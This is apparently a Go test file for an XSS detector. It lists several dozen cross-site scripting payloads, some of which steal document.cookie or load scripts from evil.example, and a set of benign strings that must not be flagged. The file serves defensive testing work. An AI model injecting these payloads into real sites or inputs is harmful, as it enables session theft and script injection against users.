package payload

import "testing"

func TestXSS(t *testing.T) {
	finds(t, XSS,
		"<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "\"><script>alert(document.cookie)</script>",
		"<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert`1`>",
		"<body onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>", "javascript:alert(1)",
		"java\tscript:alert(1)", "jAvAsCrIpT:alert(1)", " javascript:alert(1)", "vbscript:msgbox(1)", "\" onmouseover=alert(1) x=\"",
		"' autofocus onfocus=alert(1) '", "x onerror=alert(1)", "\" onclick=\"alert(1)", "<details open ontoggle=alert(1)>",
		"<video><source onerror=alert(1)>", "<input autofocus onfocus=alert(1)>", "<math><mi xlink:href=\"javascript:alert(1)\">",
		"<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">", "<embed src=//evil.example/x.swf>",
		"data:text/html,<script>alert(1)</script>", "<style>@import'//evil.example/x.css'</style><x style=a>", "';alert(1)//", "\";alert(String.fromCharCode(88,83,83))//",
		"'-alert(1)-'", "\"-prompt(8)-\"", "';confirm`1`//", "</script><script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;",
		"&#60;script&#62;alert(1)", "\\u003cscript\\u003ealert(1)", "\\x3cimg src=x onerror=alert(1)\\x3e", "%3Cscript%3Ealert(1)%3C/script%3E",
		"＜script＞alert(1)＜/script＞", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<marquee onstart=alert(1)>", "<isindex action=javascript:alert(1)>",
		"<form action=javascript:alert(1)><input type=submit>", "<link rel=stylesheet href=//evil.example>", "<meta http-equiv=refresh content=0;url=//evil.example>",
		"<base href=//evil.example/>", "<div style=\"background:url(javascript:alert(1))\">", "<a href=\"jav&#x61;script:alert(1)\">x</a>",
		"<img src=\"javascript:alert('XSS');\">", "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">", "<<SCRIPT>alert(1);//<</SCRIPT>", "<img src=x:alert(alt) onerror=eval(src) alt=0>",
		"<svg><animate onbegin=alert(1) attributeName=x>", "<button popovertarget=x onclick=fetch('//evil.example/'+document.cookie)>go", "<xss onpointerenter=alert(1)>",
		"\"><h1>hacked</h1>", "x' /><b>y", "<?xml version=\"1.0\"?><a xmlns=\"http://www.w3.org/1999/xhtml\" onclick=alert(1)>", "<?xml version=\"1.0\"?><script>alert(1)</script>")
	queries(t, XSS, "q=%253Cscript%253Ealert(1)%253C%252Fscript%253E", "q=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
		`q={"name":"<img src=x onerror=alert(1)>"}`, "%3Cscript%3Ealert(1)%3C/script%3E", "<script>alert(1)</script>=1")
}

func TestNoXSS(t *testing.T) {
	clean(t,
		"a<b", "a < b and b > c", "i <3 you", "<- back", "-> next", "<unknown>", "John <john@example.com>", "<b>bold</b>", "<3",
		"std::vector<int> v; v.push_back(1);", "for (int i = 0; i < n; ++i) { sum += a[i]; }", "Map<String, List<Integer>>", "#include <iostream>",
		"style=\"color:red\"", "onclick handlers in react", "onload=function", "javascript: the good parts", "learn javascript",
		"data:image/png;base64,iVBORw0KGgo=", "what does alert() do", "how to use document.cookie", "eval is evil", "online=1", "option=on",
		"color: #fff; background: url(image.png)", ".a > .b { color: red }", "AT&T", "R&D; sales", "x => x * 2", "{{name}}", "**bold** _italic_ [link](http://example.com)",
		"prompt(ly) delivered", "script for a play", "image src attribute", "Generic<T extends Base>", "5 > 3", "<=10", ">=1.2.0 <2.0.0",
		"<Filter xmlns=\"http://www.opengis.net/ogc\"><PropertyIsEqualTo><PropertyName>a</PropertyName><Literal>1</Literal></PropertyIsEqualTo></Filter>", "<?xml version=\"1.0\"?><request><id>5</id></request>")
}
